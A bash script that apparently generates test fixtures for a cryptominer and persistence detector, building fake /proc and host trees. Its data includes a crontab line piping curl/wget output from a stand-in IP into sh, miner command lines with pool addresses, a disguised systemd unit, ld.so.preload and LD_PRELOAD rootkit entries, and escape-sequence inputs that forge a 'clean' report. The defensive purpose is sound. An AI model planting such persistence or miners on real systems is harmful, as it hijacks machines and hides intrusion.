#!/bin/bash
# Regenerates the fixture trees proc/, proc_t1/, host/, host_clean/, the hostile-bytes trees
# proc_hostile/, proc_hostile_t1/ and host_hostile/, and the evidence trees proc_evidence/,
# proc_evidence_t1/, proc_evidence_busy_t1/ and host_evidence/ beside this script.
# The trees are committed; edit this script and rerun it rather than editing them by hand.
set -euo pipefail
T=$(cd "$(dirname "$0")" && pwd)
rm -rf $T/proc $T/proc_t1 $T/host $T/host_clean $T/proc_hostile $T/proc_hostile_t1 $T/host_hostile \
  $T/proc_evidence $T/proc_evidence_t1 $T/proc_evidence_busy_t1 $T/host_evidence
P=$T/proc; P1=$T/proc_t1
mkdir -p $P/sys/kernel $P1
echo 1000 > $P/sys/kernel/pid_max
CID_A=4e0f1b7c2a9d8e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f
CID_B=73bfe475650de66df8e2affdc98d440dcbe84f8df83b6f75a68a82eb7026136a
UID_A=ac04f3f2-1f2c-11e9-b015-1ebee232acfa
UID_B=63b3ebfc-2890-11e9-8154-16bf8ef8d9dc
UID_B_=${UID_B//-/_}

statline() { # pid comm state ppid flags utime stime nice threads starttime
  echo "$1 ($2) $3 $4 $1 $1 0 -1 $5 100 0 0 0 $6 $7 0 0 20 $8 $9 0 ${10} 1000000 200 18446744073709551615 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0"
}
mkproc() { # pid comm ppid flags utime stime starttime exe(or -) cgroup cmdline...
  local pid=$1 comm=$2 ppid=$3 flags=$4 ut=$5 st=$6 start=$7 exe=$8 cg=$9; shift 9
  local d=$P/$pid; mkdir -p $d/fd $d/ns $d/task/$pid
  statline $pid "$comm" S $ppid $flags $ut $st 0 "${THREADS:-1}" $start > $d/stat
  cp $d/stat $d/task/$pid/stat
  echo "$comm" > $d/comm
  if [ $# -gt 0 ]; then printf '%s\0' "$@" > $d/cmdline; else : > $d/cmdline; fi
  [ "$exe" != "-" ] && ln -s "$exe" $d/exe
  printf 'Name:\t%s\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t%s\nNgid:\t0\nPid:\t%s\nPPid:\t%s\nHugetlbPages:\t%s kB\nThreads:\t%s\n' "$comm" $pid $pid $ppid "${HUGE:-0}" "${THREADS:-1}" > $d/status
  printf '%b' "$cg" > $d/cgroup
}
later() { # pid utime stime (rewrites stat in proc_t1)
  local pid=$1; mkdir -p $P1/$pid/task/$pid
  sed -E "s/^(([^ ]+ ){13})[0-9]+ [0-9]+/\1$2 $3/" $P/$pid/stat > $P1/$pid/stat
  # comm has no spaces in these fixtures, so field positions are fixed.
  cp $P1/$pid/stat $P1/$pid/task/$pid/stat
}

cat > $P/stat <<EOF
cpu  1000 0 500 8500 0 0 0 0 0 0
cpu0 250 0 125 2125 0 0 0 0 0 0
cpu1 250 0 125 2125 0 0 0 0 0 0
cpu2 250 0 125 2125 0 0 0 0 0 0
cpu3 250 0 125 2125 0 0 0 0 0 0
intr 0
ctxt 100
btime 1700000000
processes 1000
EOF
cat > $P1/stat <<EOF
cpu  1390 0 510 8500 0 0 0 0 0 0
cpu0 350 0 125 2125 0 0 0 0 0 0
cpu1 350 0 125 2125 0 0 0 0 0 0
cpu2 350 0 125 2125 0 0 0 0 0 0
cpu3 340 0 135 2125 0 0 0 0 0 0
intr 0
EOF

HOSTCG='0::/init.scope\n'
mkproc 1 systemd 0 4194560 50 50 1 /usr/lib/systemd/systemd "$HOSTCG" /sbin/init
mkproc 2 kthreadd 0 2129984 0 0 1 - '0::/\n'
mkproc 10 kworker/0:1 2 69238880 0 0 5 - '0::/\n'
rm -f $P/10/cmdline; : > $P/10/cmdline

# A miner in a containerd pod (systemd driver, hybrid cgroup host), two threads, huge pages.
THREADS=2 HUGE=2392064 mkproc 100 xmrig 1 4194560 1000 0 500 /usr/local/bin/xmrig \
 "12:pids:/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod${UID_A//-/_}.slice/cri-containerd-$CID_A.scope\n1:name=systemd:/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod${UID_A//-/_}.slice/cri-containerd-$CID_A.scope\n0::/\n" \
 ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=1
mkdir -p $P/100/task/101
statline 101 xmrig S 1 4194368 100 0 0 1 500 > $P/100/task/101/stat
ln -s socket:[5001] $P/100/fd/3
ln -s /dev/null $P/100/fd/0
ln -s pipe:[7777] $P/100/fd/1
ln -s net:[4026532001] $P/100/ns/net
mkdir -p $P/100/net
cat > $P/100/net/tcp <<EOF
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 5000 1 0000000000000000 100 0 0 10 0
   1: 0500000A:9C40 0A7100CB:0D05 01 00000000:00000000 00:00000000 00000000     0        0 5001 1 0000000000000000 20 4 30 10 -1
   2: 0500000A:9C41 0A7100CB:0D05 06 00000000:00000000 03:00001000 00000000     0        0 0 3 0000000000000000
EOF
cat > $P/100/net/tcp6 <<EOF
  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
EOF
later 100 1095 0
mkdir -p $P1/100/task/101
statline 101 xmrig S 1 4194368 190 0 0 1 500 > $P1/100/task/101/stat
statline 100 xmrig S 1 4194560 1005 0 0 2 500 > $P1/100/task/100/stat
statline 100 xmrig S 1 4194560 1000 0 0 2 500 > $P/100/task/100/stat
statline 101 xmrig S 1 4194368 100 0 0 1 500 > $P/100/task/101/stat

# A fake kernel worker dropped in /tmp and deleted, on the host.
mkproc 200 kworkerds 1 4194560 10 0 600 "/tmp/kworkerds (deleted)" '0::/system.slice/cron.service\n' "[kworker/0:1]"
later 200 10 0

# A CPU-heavy benign encoder: a hog, nothing else.
mkproc 300 ffmpeg 1 4194560 5000 100 700 /usr/bin/ffmpeg '0::/user.slice/user-1000.slice/session-1.scope\n' ffmpeg -i in.mp4 -c:v libx265 out.mp4
later 300 5390 100

# A disguised miner in a CRI-O pod: busy and connected to a pool address (tcp6, IPv4-mapped).
mkproc 400 python3 1 4194560 100 0 800 /usr/bin/python3.11 "0::/../../kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${UID_B_}.slice/crio-$CID_B.scope\n" python3 worker.py
ln -s socket:[6001] $P/400/fd/7
ln -s net:[4026532002] $P/400/ns/net
mkdir -p $P/400/net
cat > $P/400/net/tcp <<EOF
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: garbage line
EOF
cat > $P/400/net/tcp6 <<EOF
  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0000000000000000FFFF00000900010A:A000 0000000000000000FFFF0000076433C6:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 6001 1 0000000000000000 20 4 30 10 -1
   1: 0000000000000000FFFF00000900010A:A001 B80D0120000000000000000001000000:386C 01 00000000:00000000 00:00000000 00000000  1000        0 6002 1 0000000000000000 20 4 30 10 -1
   2: 00000000000000000000000001000000:1F90 00000000000000000000000001000000:D000 01 00000000:00000000 00:00000000 00000000  1000        0 6003 1 0000000000000000 20 4 30 10 -1
EOF
later 400 190 0
# Its sidecar in the same network namespace: a miner-port connection only (weak).
mkproc 401 nginx 1 4194560 10 0 810 /usr/sbin/nginx "0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${UID_B_}.slice/crio-$CID_B.scope\n" "nginx: master process"
ln -s socket:[6002] $P/401/fd/4
ln -s socket:[6003] $P/401/fd/5
ln -s net:[4026532002] $P/401/ns/net
mkdir -p $P/401/net; cp $P/400/net/tcp $P/400/net/tcp6 $P/401/net/
later 401 11 0

# Fileless: a memfd executable, and runc's own memfd (expected).
mkproc 500 sh 1 4194560 0 0 900 "/memfd:payload (deleted)" '0::/\n' sh
mkproc 501 runc 1 4194560 0 0 901 "/memfd:runc_cloned:/proc/self/exe (deleted)" '0::/\n' runc init

# Exited mid-scan: the directory is still listed but stat is gone; and a truncated stat.
mkdir -p $P/600; printf 'gone\0' > $P/600/cmdline
mkdir -p $P/601; echo "601 (trunc) S 1" > $P/601/stat

# Host trees.
H=$T/host
mkdir -p $H/etc/cron.d $H/etc/cron.daily $H/var/spool/cron/crontabs $H/etc/systemd/system/multi-user.target.wants \
  $H/usr/local/lib $H/tmp $H/var/tmp $H/root/.ssh $H/usr/bin $H/usr/sbin
echo "/usr/local/lib/libs.so" > $H/etc/ld.so.preload
printf '\x7fELF' > $H/usr/local/lib/libs.so
cat > $H/etc/crontab <<'EOF'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
# m h dom mon dow user	command
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
*/5 * * * * root (curl -fsSL http://203.0.113.5/ldm||wget -q -O- http://203.0.113.5/ldm)|sh
EOF
echo '0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf' > $H/etc/cron.d/logrotate
printf '#!/bin/sh\ntest -x /usr/sbin/anacron || exit 0\n' > $H/etc/cron.daily/0anacron
echo '@reboot /root/.cache/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AbC' > $H/var/spool/cron/crontabs/root
cat > $H/etc/systemd/system/crypto.service <<'EOF'
[Unit]
Description=System update daemon

[Service]
ExecStart=/usr/bin/kthreaddk --donate-level 1 -o pool.hashvault.pro:443
Restart=always

[Install]
WantedBy=multi-user.target
EOF
cat > $H/etc/systemd/system/nginx.service <<'EOF'
[Service]
# Description mentions xmrig only in a comment and a non-Exec key.
Description=xmrig-free web server
ExecStart=/usr/sbin/nginx -g 'daemon off;'
EOF
ln -s /etc/systemd/system/crypto.service $H/etc/systemd/system/multi-user.target.wants/crypto.service
printf 'x' > $H/tmp/kworkerds3
printf 'x' > $H/var/tmp/1.so
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOps admin@corp' > $H/root/.ssh/authorized_keys
printf '\x7fELF' > $H/usr/bin/ls

C=$T/host_clean
mkdir -p $C/etc/cron.d $C/etc/systemd/system $C/tmp $C/usr/bin
: > $C/etc/ld.so.preload
head -4 $H/etc/crontab > $C/etc/crontab
cp $H/etc/cron.d/logrotate $C/etc/cron.d/
cp $H/etc/systemd/system/nginx.service $C/etc/systemd/system/
printf '\x7fELF' > $C/usr/bin/ls

# Hostile bytes: what any local user can put in argv and comm (invalid UTF-8, terminal escape
# sequences, a fake last line of the report), and files a miner wrote as root. A miner in a
# containerd pod, so the responder acts on it, with a second CPU sample in proc_hostile_t1.
P=$T/proc_hostile; P1=$T/proc_hostile_t1
mkdir -p $P/sys/kernel $P1
echo 1000 > $P/sys/kernel/pid_max
cp $T/proc/stat $P/stat; cp $T/proc_t1/stat $P1/stat
HCOMM=$'\x1b[2J\xffxmrig'
mkproc 700 "$HCOMM" 1 4194560 100 0 500 $'/tmp/.x/\xff\xfe (deleted)' \
 "0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${UID_A//-/_}.slice/cri-containerd-$CID_A.scope\n" \
 $'/tmp/.x/\xff\xfe' -o stratum+tcp://pool.example.com:3333 $'\xff\xfe' $'\x1b[2J\x1b[HRESULT: clean\n'
mkdir -p $P1/700/task/700
statline 700 "$HCOMM" S 1 4194560 500 0 0 1 500 > $P1/700/stat
cp $P1/700/stat $P1/700/task/700/stat
HH=$T/host_hostile
mkdir -p $HH/etc/cron.d
printf '/usr/lib/\xff\xfelibhide.so\n' > $HH/etc/ld.so.preload
printf '* * * * * root /tmp/.x/m -o stratum+tcp://pool.example.com:3333 \x1b[2J\x1b[HRESULT: clean\xff\n' \
 > $HH/etc/cron.d/hostile

# CPU allowances, argv[0] and environment evidence (evidence_test.cpp). Two CPUs; proc_evidence_t1
# is a second sample on a half-busy host, proc_evidence_busy_t1 one on a host busy throughout.
P=$T/proc_evidence; P1=$T/proc_evidence_t1; PB=$T/proc_evidence_busy_t1
mkdir -p $P/sys/kernel $P1 $PB
echo 1000 > $P/sys/kernel/pid_max
printf 'cpu  1000 0 0 9000 0 0 0 0 0 0\ncpu0 500 0 0 4500 0 0 0 0 0 0\ncpu1 500 0 0 4500 0 0 0 0 0 0\n' > $P/stat
printf 'cpu  1110 0 0 9090 0 0 0 0 0 0\ncpu0 555 0 0 4545 0 0 0 0 0 0\ncpu1 555 0 0 4545 0 0 0 0 0 0\n' > $P1/stat
printf 'cpu  1200 0 0 9000 0 0 0 0 0 0\ncpu0 600 0 0 4500 0 0 0 0 0 0\ncpu1 600 0 0 4500 0 0 0 0 0 0\n' > $PB/stat
CID_C=c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00
UID_C=5f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9
PODC=kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod${UID_C//-/_}.slice
busy_later() { P1=$PB later "$@"; }
mkproc 1 systemd 0 4194560 50 50 1 /usr/lib/systemd/systemd "$HOSTCG" /sbin/init
# A miner under a 500m Pod limit: 48% of a CPU is 96% of what it may use.
mkproc 110 worker 1 4194560 100 0 500 /usr/local/bin/worker "0::/$PODC/cri-containerd-$CID_C.scope\n" worker --threads 1
later 110 148 0; busy_later 110 148 0
# The same use without a limit: not a hog on a half-idle host, a hog at its fair share on a
# busy one (four processes competing for two CPUs: 50% each).
mkproc 111 worker 1 4194560 100 0 510 /usr/local/bin/worker '0::/system.slice/batch.service\n' worker
later 111 148 0; busy_later 111 148 0
mkproc 112 make 1 4194560 0 0 520 /usr/bin/make '0::/user.slice\n' make -j2
busy_later 112 52 0
mkproc 113 make 1 4194560 0 0 530 /usr/bin/make '0::/user.slice\n' make -j2
busy_later 113 52 0
# "nginx: worker process" running /tmp/x with a session to a miner port; and a real nginx.
mkproc 120 x 1 4194560 0 0 600 /tmp/x '0::/system.slice/x.service\n' "nginx: worker process"
ln -s socket:[8001] $P/120/fd/3
ln -s net:[4026532101] $P/120/ns/net
mkdir -p $P/120/net
cat > $P/120/net/tcp <<EOF
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0500000A:9C40 0A7100CB:0D05 01 00000000:00000000 00:00000000 00000000     0        0 8001 1 0000000000000000 20 4 30 10 -1
EOF
head -1 $T/proc/100/net/tcp6 > $P/120/net/tcp6
mkproc 121 nginx 1 4194560 0 0 610 /usr/sbin/nginx '0::/system.slice/nginx.service\n' "nginx: master process /usr/sbin/nginx"
# LD_PRELOAD from /dev/shm on a process that used CPU; benign loader variables; and a
# preload on a process that neither used CPU nor has findings (its environ is not read).
mkproc 130 app 1 4194560 0 0 700 /usr/bin/app '0::/system.slice/app.service\n' app
printf 'PATH=/usr/bin\0LD_PRELOAD=/dev/shm/.l/libprocesshider.so\0' > $P/130/environ
later 130 5 0
mkproc 131 app 1 4194560 0 0 710 /usr/bin/app '0::/system.slice/app.service\n' app
printf 'LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu:/opt/app/lib\0LD_PRELOAD=libjemalloc.so.2\0' > $P/131/environ
later 131 5 0
mkproc 132 app 1 4194560 0 0 720 /usr/bin/app '0::/system.slice/app.service\n' app
printf 'LD_PRELOAD=/tmp/x.so\0' > $P/132/environ
# The host's cgroup v2 hierarchy: the quota sits on the Pod's cgroup, the container has none.
H=$T/host_evidence
mkdir -p $H/sys/fs/cgroup/$PODC/cri-containerd-$CID_C.scope $H/sys/fs/cgroup/system.slice/batch.service
echo 'max 100000' > $H/sys/fs/cgroup/kubepods.slice/cpu.max
echo 'max 100000' > $H/sys/fs/cgroup/kubepods.slice/kubepods-burstable.slice/cpu.max
echo '50000 100000' > $H/sys/fs/cgroup/$PODC/cpu.max
echo 'max 100000' > $H/sys/fs/cgroup/$PODC/cri-containerd-$CID_C.scope/cpu.max
echo 'max 100000' > $H/sys/fs/cgroup/system.slice/batch.service/cpu.max
echo done
